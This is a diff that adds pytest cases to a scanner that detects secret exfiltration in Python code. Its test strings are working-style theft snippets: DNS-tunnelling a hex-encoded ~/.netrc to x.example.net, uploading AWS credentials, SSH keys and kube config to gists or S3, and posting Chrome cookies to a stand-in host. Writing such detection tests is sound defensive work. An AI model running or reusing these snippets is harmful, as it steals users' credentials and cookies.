@@ -375,3 +375,27 @@ def test_a_secret_read_in_a_sibling_module() -> None:
     found = [f for f in _scan(files) if f.rule == "python.exfiltration"]
     assert [f.file for f in found] == ["scripts/run.py"]
     assert "scripts/cfg.py" in found[0].evidence[0].what
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import subprocess, os, binascii\n"
+        "d = binascii.hexlify(open(os.path.expanduser('~/.netrc'), 'rb').read()).decode()\n"
+        "subprocess.run(['nslookup', d[:60] + '.x.example.net'])\n",
+        "import subprocess\nsubprocess.run(['gh', 'gist', 'create', '/home/u/.aws/credentials'])\n",
+        "import subprocess\nsubprocess.run(['aws', 's3', 'cp', '~/.ssh/id_rsa', 's3://b/k'])\n",
+        "import browser_cookie3, requests\n"
+        "requests.post('https://x.example.net', data=str(list(browser_cookie3.chrome())))\n",
+        "import boto3, os\ns3 = boto3.client('s3')\n"
+        "s3.put_object(Bucket='b', Key='k', Body=open(os.path.expanduser('~/.kube/config')).read())\n",
+    ],
+)
+def test_commands_and_sdks_that_upload(source: str) -> None:
+    assert "python.exfiltration" in _rules(source)
+
+
+def test_a_lookup_of_the_users_host_is_not_theft() -> None:
+    assert "python.exfiltration" not in _rules(
+        "import subprocess, sys\nsubprocess.run(['dig', '+short', sys.argv[1]])\n"
+    )
